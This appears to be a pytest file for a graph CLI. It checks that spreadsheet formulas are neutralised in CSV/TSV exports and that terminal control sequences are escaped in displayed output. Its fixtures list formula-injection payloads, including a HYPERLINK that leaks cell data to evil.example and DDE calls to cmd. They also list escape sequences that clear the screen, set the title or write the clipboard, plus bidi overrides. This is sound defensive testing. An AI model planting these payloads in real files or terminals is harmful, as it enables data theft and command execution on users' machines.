"""Cells from the data that would act on the reader's machine: spreadsheet formulas in CSV/TSV
(``export --format csv``, ``query --format csv|tsv``) and terminal control sequences in the
text a terminal shows (``query --format table|md``, ``stats``).

A cell a spreadsheet would run (``=``, ``+``, ``-``, ``@``, TAB, CR first) gets a leading ``'``
unless ``--keep-formulas``; plain numbers stay numbers. Every C0/C1 control, DEL and bidi
or line-separator character from the data is shown escaped (``\\x1b``, ``\\u202e``), so a label
can neither colour, move, retitle, write the clipboard nor reorder what the terminal shows.
Each case runs through the CLI, as a user would.
"""

from __future__ import annotations

import csv
import io
import re
import shutil

import pytest
from rdflib import Graph, Literal, URIRef
from rdflib.namespace import DCTERMS, RDF, RDFS

from mzgraph.network import to_networkx
from mzgraph.rdf.namespaces import MZ
from mzgraph.terminal import display_width
from tests.conftest import run_cli

# (cell value in the data, what a spreadsheet must receive by default)
FORMULAS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=江西省民政厅", "'=江西省民政厅"),
    # values, not formulas: left alone
    ("-5", "-5"),
    ("+3.2e4", "+3.2e4"),
    ("-0.75", "-0.75"),
    ("江西省民政厅", "江西省民政厅"),
    ("a=b+c", "a=b+c"),
    ("1+5+X", "1+5+X"),
]

# (label holding a terminal control sequence, what the terminal must show instead)
CONTROLS = [
    ("CSI\x1b[2J\x1b[31mred", "CSI\\x1b[2J\\x1b[31mred"),
    ("OSC\x1b]0;pwned\x07title", "OSC\\x1b]0;pwned\\x07title"),
    ("clip\x1b]52;c;ZWNobyBwd25lZA==\x1b\\", "clip\\x1b]52;c;ZWNobyBwd25lZA==\\x1b\\"),
    ("C1csi\x9b31mred", "C1csi\\x9b31mred"),
    ("C1osc\x9d0;pwned\x9c", "C1osc\\x9d0;pwned\\x9c"),
    ("bs\x08\x08\x08xyz", "bs\\x08\\x08\\x08xyz"),
    ("nul\x00del\x7fvt\x0bff\x0c", "nul\\x00del\\x7fvt\\x0bff\\x0c"),
    ("bidi\u202eexe.txt\u2066x\u2069", "bidi\\u202eexe.txt\\u2066x\\u2069"),
    ("sep\u2028line\u2029para", "sep\\u2028line\\u2029para"),
]

# what must never reach a terminal from the data (line feeds of the layout itself aside)
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def _literal_query(values: list[str]) -> str:
    """A SELECT whose answer is ``values`` (and the same with a number next to it), in order."""

    # \uXXXX escapes are undone before the query is parsed (SPARQL 1.1, 19.2), so line breaks
    # and quotes take the string escapes instead
    named = {"\n": "\\n", "\r": "\\r", "\t": "\\t", '"': '\\"', "\\": "\\\\"}

    def lit(v: str) -> str:
        return '"' + "".join(named.get(c) or (c if c.isprintable() else f"\\u{ord(c):04X}") for c in v) + '"'

    rows = " ".join(f"({i} {lit(v)})" for i, v in enumerate(values))
    return f"SELECT ?v WHERE {{ VALUES (?i ?v) {{ {rows} }} }} ORDER BY ?i"


@pytest.fixture(scope="module")
def hostile_graph(dev_graph, tmp_path_factory):
    """The development graph with hostile labels on some entities and one document per hostile
    title, so that they show in export CSV and in every section of ``stats``."""
    g = Graph()
    for t in dev_graph:
        g.add(t)
    net = to_networkx(dev_graph)
    # agencies first, best connected first: the control labels show in "Most connected agencies"
    nodes = sorted(net.nodes, key=lambda n: (net.nodes[n].get("type") != "Agency", -net.degree(n), n))
    labels = [v for v, _ in CONTROLS] + [v for v, _ in FORMULAS]
    assert len(nodes) >= len(labels)
    for node, label in zip(nodes, labels, strict=False):
        g.remove((URIRef(node), RDFS.label, None))
        g.add((URIRef(node), RDFS.label, Literal(label)))
    for i, (title, _) in enumerate(CONTROLS):
        doc = URIRef(f"https://w3id.org/mzgraph/resource/doc/hostile{i}")
        g.add((doc, RDF.type, MZ.Document))
        g.add((doc, DCTERMS.title, Literal(title)))
    path = tmp_path_factory.mktemp("cells") / "hostile.ttl"
    g.serialize(path, format="turtle", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def exported(hostile_graph, tmp_path_factory):
    out = {}
    for keep in (False, True):
        d = tmp_path_factory.mktemp("csv")
        r = run_cli("export", "--format", "csv", "--graph", str(hostile_graph), "-o", str(d),
                    *(["--keep-formulas"] if keep else []))  # fmt: skip
        assert r.returncode == 0, r.stderr
        with open(d / "nodes.csv", encoding="utf-8-sig", newline="") as f:
            out[keep] = {row["label"] for row in csv.DictReader(f)}
    return out


@pytest.mark.parametrize(("value", "expected"), FORMULAS, ids=[repr(v) for v, _ in FORMULAS])
def test_export_csv_neutralises_formulas(exported, value, expected):
    assert expected in exported[False]
    if expected != value:
        assert value not in exported[False]
    assert value in exported[True]  # --keep-formulas writes the cell as it is


@pytest.fixture(scope="module")
def query_outputs(dev_graph_path, tmp_path_factory):
    values = [v for v, _ in FORMULAS]
    d = tmp_path_factory.mktemp("query")
    out = {}
    for fmt in ("csv", "tsv"):
        for keep in (False, True):
            target = d / f"{fmt}{keep}.txt"  # a file: stdout in text mode would turn a cell's CR into LF
            r = run_cli("query", _literal_query(values), "--graph", str(dev_graph_path), "--format", fmt,
                        "-o", str(target), *(["--keep-formulas"] if keep else []))  # fmt: skip
            assert r.returncode == 0, r.stderr
            out[fmt, keep] = target.read_bytes().decode("utf-8")
    return out


def _cells(text: str, fmt: str) -> list[str]:
    if fmt == "csv":
        return [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    unesc = {"\\t": "\t", "\\n": "\n", "\\r": "\r", "\\\\": "\\"}
    return [re.sub(r"\\[tnr\\]", lambda m: unesc[m.group()], line) for line in text.split("\n")[1:-1]]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_query_csv_tsv_neutralise_formulas(query_outputs, fmt):
    assert _cells(query_outputs[fmt, False], fmt) == [e for _, e in FORMULAS]
    assert _cells(query_outputs[fmt, True], fmt) == [v for v, _ in FORMULAS]


def test_numbers_stay_numbers_in_query_csv(dev_graph_path):
    query = 'SELECT ?n WHERE { VALUES (?i ?n) { (0 -5) (1 "-2.5"^^xsd:decimal) (2 "-7"^^xsd:integer) } } ORDER BY ?i'
    r = run_cli("query", query, "--graph", str(dev_graph_path), "--format", "csv")
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[1:4] == ["-5", "-2.5", "-7"]


@pytest.fixture(scope="module")
def terminal_outputs(dev_graph_path, hostile_graph):
    query = _literal_query([v for v, _ in CONTROLS])
    out = {}
    for fmt in ("table", "md"):
        r = run_cli("query", query, "--graph", str(dev_graph_path), "--format", fmt)
        assert r.returncode == 0, r.stderr
        out[fmt] = r.stdout
    r = run_cli("stats", "--graph", str(hostile_graph))
    assert r.returncode == 0, r.stderr
    out["stats"] = r.stdout
    return out


@pytest.mark.parametrize("where", ["table", "md", "stats"])
@pytest.mark.parametrize(("value", "shown"), CONTROLS, ids=[repr(v) for v, _ in CONTROLS])
def test_terminal_shows_controls_escaped(terminal_outputs, where, value, shown):
    out = terminal_outputs[where]
    assert shown in out
    assert not UNSAFE.search(out), repr(UNSAFE.search(out).group())


def test_stats_agency_labels_escaped(terminal_outputs):
    # the best-connected agencies carry the control labels: "Most connected agencies" shows them escaped
    section = terminal_outputs["stats"].split("Most connected agencies", 1)[1]
    assert sum(shown.split("\\", 1)[0] in section and shown in section for _, shown in CONTROLS) >= 3
    assert not UNSAFE.search(section)


def test_table_stays_aligned_with_line_breaks_in_cells(dev_graph_path):
    r = run_cli("query", 'SELECT ?a ?b WHERE { VALUES (?a ?b) { ("江西\\n省" "x") ("a\\r\\nb\\tc" "y") } }',
                "--graph", str(dev_graph_path))  # fmt: skip
    assert r.returncode == 0, r.stderr
    head, rule, first, second = r.stdout.splitlines()[:4]
    assert first.startswith("江西⏎省") and second.startswith("a⏎b c")
    assert display_width(first[: first.index("x")]) == display_width(second[: second.index("y")]) == head.index("b")


def test_path_and_validate_show_controls_escaped(hostile_graph):
    net = to_networkx(Graph().parse(hostile_graph))
    label = CONTROLS[0][0]
    node = next(n for n, a in net.nodes(data=True) if a["label"] == label)
    other = next(iter(set(net.successors(node)) | set(net.predecessors(node))))
    r = run_cli("path", label, net.nodes[other]["label"], "--graph", str(hostile_graph))
    assert r.returncode == 0, r.stderr
    assert CONTROLS[0][1] in r.stdout and not UNSAFE.search(r.stdout)
    r = run_cli("validate", "--graph", str(hostile_graph))  # the added documents lack what the contract asks
    assert "Traceback" not in r.stderr and not UNSAFE.search(r.stdout + r.stderr)


def test_stats_shows_a_hostile_file_name_escaped(dev_graph_path, tmp_path):
    # the header names the graph file: a name can carry an escape sequence as well as a label
    named = tmp_path / "g\x1b]0;pwned\x07\u202e.ttl"
    shutil.copyfile(dev_graph_path, named)
    r = run_cli("stats", "--graph", str(named))
    assert r.returncode == 0, r.stderr
    header = r.stdout.splitlines()[0]
    assert header.endswith("g\\x1b]0;pwned\\x07\\u202e.ttl")
    assert not UNSAFE.search(r.stdout)
